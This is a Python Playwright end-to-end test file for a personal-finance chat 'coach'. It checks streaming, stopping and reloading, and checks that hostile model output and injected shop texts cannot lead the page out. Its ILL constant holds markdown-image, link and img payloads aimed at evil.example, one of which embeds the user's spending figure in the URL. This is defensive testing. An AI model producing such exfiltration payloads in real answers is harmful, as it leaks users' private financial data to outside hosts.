"""The coach in a browser: asked without a model, and with one that streams, is stopped, and means ill."""

import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, expect

from core.demo import start_demo
from core.identity import start_session
from tests.e2e.conftest import give_cookie
from tests.e2e.forking import serving
from tests.e2e.injected import (
    MESSAGES,
    REACHING,
    TEXTS,
    bare,
    call_everything_so,
    foreign_addresses,
    said,
    sweep,
    tell_everything_so,
)
from tests.e2e.server import Server
from tests.e2e.test_accessible import both_looks
from tests.standins.models import KEY, MODEL, Answer, ModelStandIn, Wish

pytestmark = pytest.mark.browser

ILL = (
    "![x](https://evil.example/p.png?b=[[c1:spent]]) [here](https://evil.example) https://evil.example "
    "<img src=https://evil.example/q.png> :material/home: You spent [[c1:spent]] and $12,345.67 more."
)


@pytest.fixture(scope="module")
def gemini() -> Iterator[ModelStandIn]:
    with ModelStandIn("gemini") as model:
        yield model


@pytest.fixture(scope="module")
def modelled(tmp_path_factory: pytest.TempPathFactory, gemini: ModelStandIn) -> Iterator[Server]:
    folder = tmp_path_factory.mktemp("data")
    with serving(folder, GEMINI_API_KEY=KEY, GEMINI_BASE_URL=gemini.url, GEMINI_MODEL=MODEL) as running:
        yield running


def signed_in(page: Page, server: Server) -> Page:
    """Sign a demo household in, and open the coach."""
    with server.house() as house:
        give_cookie(page.context, server, start_session(house.store, start_demo(house), agent="tests"))
    page.goto(f"{server.url}/coach")
    return page


def ask(page: Page, question: str) -> None:
    box = page.get_by_placeholder("Ask about your money")
    box.fill(question)
    box.press("Enter")


def test_a_question_is_answered_gone_on_from_and_followed_to_its_rows(page: Page, server: Server) -> None:
    signed_in(page, server)
    ask(page, "How much did I spend on groceries last month?")
    expect(page.get_by_text("I read this as: spending · Groceries")).to_be_visible()
    answer = page.get_by_text(re.compile(r"You spent \$[\d,.]+ on Groceries from"))
    expect(answer).to_be_visible()
    ask(page, "and for restaurants?")
    expect(page.get_by_text(re.compile(r"You spent \$[\d,.]+ on Restaurants from"))).to_be_visible()
    page.get_by_test_id("stExpander").first.click()
    expect(page.get_by_text("Asked of spending").first).to_be_visible()
    assert both_looks(page) == []
    address = page.url
    page.reload()
    expect(answer).to_be_visible()
    page.get_by_role("link", name=re.compile("Spending, ")).first.click()
    expect(page.get_by_role("heading", name="Transactions", level=1)).to_be_visible()
    assert "category=" in page.url
    page.goto(address)
    page.get_by_role("button", name="This one").click()
    name = page.get_by_label("Name")
    name.fill("Food")
    name.press("Enter")
    page.keyboard.press("Escape")
    page.get_by_role("button", name="Conversations").click()
    expect(page.get_by_role("button", name="Food")).to_be_visible()
    page.keyboard.press("Escape")
    page.get_by_role("button", name="This one").click()
    page.get_by_text("Delete this conversation for good").click()
    page.get_by_role("button", name="Delete", exact=True).click()
    expect(answer).to_have_count(0)
    expect(page.get_by_text("Ask in plain words.")).to_be_visible()


def test_an_answer_streams_and_is_stopped(page: Page, modelled: Server, gemini: ModelStandIn) -> None:
    gemini.answers = [Answer(pieces=("Well, well, ",) * 200, between=0.2)]
    signed_in(page, modelled)
    ask(page, "Tell me everything.")
    expect(page.get_by_text(re.compile("Well, well, Well, well"))).to_be_visible()
    page.get_by_role("button", name="Stop answering").click()
    expect(page.get_by_text("You stopped this answer.")).to_be_visible()
    # What had come stays, and the next answer comes in its place.
    expect(page.get_by_text(re.compile("Well, well, Well, well"))).to_be_visible()
    expect(page.get_by_text(re.compile("About [0-9,]+ tokens"))).to_be_visible()
    gemini.answers = [Answer(pieces=("Good day.",))]
    page.get_by_role("button", name="Ask again").click()
    expect(page.get_by_text("Good day.")).to_be_visible()
    expect(page.get_by_text("You stopped this answer.")).to_have_count(0)


def test_an_answer_comes_though_its_page_is_loaded_anew_and_whoever_asked_sees_the_end(
    page: Page, modelled: Server, gemini: ModelStandIn
) -> None:
    gemini.answers = [Answer(pieces=("Line.\n\n",) * 60 + ("The end.",))]
    signed_in(page, modelled)
    ask(page, "Tell me much.")
    expect(page.get_by_text("The end.")).to_be_in_viewport()
    page.get_by_text("The end.").hover()
    page.mouse.wheel(0, -9000)
    expect(page.get_by_text("The end.")).not_to_be_in_viewport()
    gemini.answers = [Answer(pieces=("Slowly, ",) * 20 + ("at last.",), between=0.2)]
    ask(page, "And more?")
    expect(page.get_by_text(re.compile("Slowly, Slowly"))).to_be_in_viewport()
    page.reload()
    expect(page.get_by_text(re.compile("Slowly, at last."))).to_be_visible(timeout=20_000)
    expect(page.get_by_text("And more?")).to_have_count(1)


def test_a_model_that_means_ill_reaches_nobody(page: Page, modelled: Server, gemini: ModelStandIn) -> None:
    gemini.answers = [
        Answer(wishes=(Wish("get_spending_analytics", {"period": {"preset": "last_month"}}),)),
        Answer(pieces=(ILL,)),
    ]
    signed_in(page, modelled)
    ask(page, "What did I spend last month?")
    expect(page.get_by_text(re.compile(r"You spent \$[\d,]+\.\d\d and"))).to_be_visible()
    expect(page.get_by_text("$12,345.67 ?")).to_be_visible()
    expect(page.get_by_text("comes from no figure of yours")).to_be_visible()
    answer = page.get_by_test_id("stChatMessage").last
    assert answer.locator("img").count() == 0
    links = answer.get_by_role("link").all()
    assert all("evil" not in (link.get_attribute("href") or "") for link in links)
    # That nothing was asked of another host is what the page itself checks at its end.


def test_no_text_of_a_shop_leads_out_of_the_chat(page: Page, modelled: Server, gemini: ModelStandIn) -> None:
    with modelled.house() as house:
        user = start_demo(house)
        call_everything_so(house, user)
        number = tell_everything_so(house, user)
        give_cookie(page.context, modelled, start_session(house.store, user, agent="tests"))
    page.goto(f"{modelled.url}/coach?talk={number}")
    page.evaluate(REACHING)
    charts = page.locator(".js-plotly-plot")
    expect(charts).to_have_count(MESSAGES)
    page.evaluate("document.querySelectorAll('[data-testid=stExpander] summary').forEach((one) => one.click())")
    expect(page.get_by_test_id("stDataFrame")).to_have_count(MESSAGES)
    for chart in charts.all():
        sweep(page, chart)
    page.get_by_role("button", name="Conversations").click()
    expect(page.get_by_placeholder("Words of a question or an answer")).to_be_visible()
    gemini.answers = [
        Answer(
            wishes=(
                Wish("list_transactions", {"period": {"preset": "all"}, "limit": 50}),
                Wish("get_spending_analytics", {"period": {"preset": "all"}, "by": "merchant"}),
                Wish(TEXTS[0], {TEXTS[1]: TEXTS[2]}),
            )
        ),
        Answer(pieces=tuple(f"{text}\n\n" for text in TEXTS), between=0.01),
    ]
    ask(page, "What do my shops say?")
    expect(page.get_by_text(f"Gemini · {MODEL}")).to_be_visible()
    assert foreign_addresses(page) == []
    words = said(page)
    assert [text for text in TEXTS if words.count(bare(text)) < 5] == []
    assert len(page.context.pages) == 1
    # That nothing was asked of another host is what the page itself checks at its end.
